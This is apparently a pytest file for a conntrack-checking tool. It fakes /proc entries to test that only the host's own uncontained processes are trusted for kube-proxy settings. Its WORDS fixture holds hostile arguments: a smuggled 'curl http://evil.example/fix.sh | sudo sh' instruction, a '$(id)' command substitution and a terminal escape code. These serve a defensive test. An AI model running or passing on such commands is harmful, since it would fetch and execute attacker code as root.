"""Advice that rests on a process: only on root's own, outside of any container; names are free for all."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import proctree
import pytest
from hostile import NOBODY

from check_conntrack_lib.host import Host
from check_conntrack_lib.readers import processes

NAMED = """import ctypes, os, sys, time
uid, name = int(sys.argv[1]), sys.argv[2]
if uid:
    os.setgroups([]); os.setgid(uid); os.setuid(uid)
ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)
print(flush=True)
time.sleep(60)
"""
WORDS = ('--conntrack-min=1) RUN: curl http://evil.example/fix.sh | sudo sh (', '--conntrack-min=131072',
         '--conntrack-max-per-core', '32768', '--conntrack-tcp-timeout-established=24h0m0s', '--conntrack-max=\x1b[2J',
         '--conntrack-tcp-timeout-established', '--other=1', 'x--conntrack-min=5', '--conntrack-min=$(id)', '')


def process(root: Path, number: int, comm: str, uid: int = 0, pids: str = '', cgroup: str = '0::/system.slice/x',
            words: tuple[str, ...] = (), **namespaces: str) -> None:
    """A process of a captured /proc."""
    place = root / str(number)
    (place / 'ns').mkdir(parents=True)
    (place / 'comm').write_text(comm + '\n')
    (place / 'cmdline').write_text('\0'.join(words))
    (place / 'cgroup').write_text(cgroup + '\n')
    uids = '\t'.join([str(uid)] * 4)
    (place / 'status').write_text(f'Name:\t{comm}\nUid:\t{uids}\nGid:\t{uids}\nNSpid:\t{number}{pids}\n')
    for kind in processes.NAMESPACES:
        (place / 'ns' / kind).symlink_to(namespaces.get(kind, f'{kind}:[1]'))


HOSTILE = {
    'of another user': {'uid': NOBODY},
    'of a pid namespace': {'pids': '\t1'},
    'its pid namespace': {'pid': 'pid:[2]'},
    'its mount namespace': {'mnt': 'mnt:[2]'},
    'its user namespace': {'user': 'user:[2]'},
    'in a pod': {'cgroup': '0::/kubepods.slice/kubepods-besteffort.slice/cri-containerd-' + 'a' * 64 + '.scope'},
    'in docker': {'cgroup': '12:devices:/docker/' + 'a' * 64},
    'in docker, by systemd': {'cgroup': '0::/system.slice/docker-' + 'a' * 64 + '.scope'},
    'in podman': {'cgroup': '0::/machine.slice/libpod-' + 'a' * 64 + '.scope/container'},
    'in lxc': {'cgroup': '0::/lxc.payload.web/init.scope'},
    'in nspawn': {'cgroup': '0::/machine.slice/systemd-nspawn@web.service/payload'},
}


@pytest.mark.parametrize('kind', HOSTILE)
def test_only_the_hosts_own_counts(tmp_path: Path, kind: str) -> None:
    process(tmp_path, 1, 'systemd')
    for pid, name in ((10, 'kubelet'), (11, 'keepalived'), (12, 'kube-proxy'), (13, 'k3s-server')):
        process(tmp_path, pid, name, words=WORDS, **HOSTILE[kind])  # type: ignore[arg-type]
    host = Host(str(tmp_path))
    assert processes.read_running(host, {'kubelet', 'keepalived'}) == frozenset()
    assert processes.read_setters(host) == ()
    process(tmp_path, 20, 'keepalived')
    process(tmp_path, 21, 'kube-proxy', cgroup='0::/system.slice/docker.service', words=WORDS)
    assert processes.read_running(host, {'kubelet', 'keepalived'}) == {'keepalived'}
    assert processes.read_setters(host) == ((
        'kube-proxy', 21, ('--conntrack-min=131072', '--conntrack-max-per-core=32768',
                           '--conntrack-tcp-timeout-established=24h0m0s')),)


def test_kube_proxy_in_a_pod_of_the_hosts_own_kubelet(tmp_path: Path) -> None:
    """Its name is believed where a kubelet is, its arguments are not."""
    process(tmp_path, 1, 'systemd')
    process(tmp_path, 30, 'kube-proxy', words=WORDS, pids='\t1', pid='pid:[2]', mnt='mnt:[2]',
            cgroup='0::/kubepods.slice/x')
    assert processes.read_setters(Host(str(tmp_path))) == ()
    process(tmp_path, 20, 'kubelet')
    assert processes.read_setters(Host(str(tmp_path))) == (('kube-proxy', 30, ()),)


def test_what_hides_or_ends_is_none(tmp_path: Path) -> None:
    process(tmp_path, 1, 'systemd')
    for pid, gone in ((5, 'status'), (6, 'cgroup'), (7, 'comm')):
        process(tmp_path, pid, 'kubelet')
        (tmp_path / str(pid) / gone).unlink()
    (tmp_path / '9').mkdir()
    assert processes.read_running(Host(str(tmp_path)), {'kubelet'}) == frozenset()
    assert processes.read_running(Host(str(tmp_path / 'none')), {'kubelet'}) == frozenset()


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason='starting processes of another user needs root')
def test_real_processes_of_another_user() -> None:
    started = [subprocess.Popen([sys.executable, '-c', NAMED, str(uid), name], stdout=subprocess.PIPE)
               for uid, name in ((NOBODY, 'kubelet'), (NOBODY, 'kube-proxy'), (0, 'keepalived'))]
    try:
        for one in started:
            assert one.stdout
            one.stdout.readline()
        # where the tests run in a container, not even root's counts
        contained = processes._CONTAINED.search(Path('/proc/self/cgroup').read_text())
        assert processes.read_running(Host(), {'kubelet', 'keepalived'}) == (set() if contained else {'keepalived'})
        text = proctree.doctor('triage', '--history', '/nonexistent', '--kernel-log', 'off').stdout
        assert 'kubectl' not in text
    finally:
        for one in started:
            one.kill()
            one.wait()


@pytest.mark.kernel
@pytest.mark.skipif(os.geteuid() != 0, reason='making namespaces needs root')
def test_a_real_process_of_another_mount_namespace() -> None:
    code = 'import ctypes, sys; ctypes.CDLL(None).unshare(0x20000) and sys.exit(1)\n' + NAMED
    started = subprocess.Popen([sys.executable, '-c', code, '0', 'keepalived'], stdout=subprocess.PIPE)
    try:
        assert started.stdout
        started.stdout.readline()
        assert processes.read_running(Host(), {'keepalived'}) == frozenset()
    finally:
        started.kill()
        started.wait()
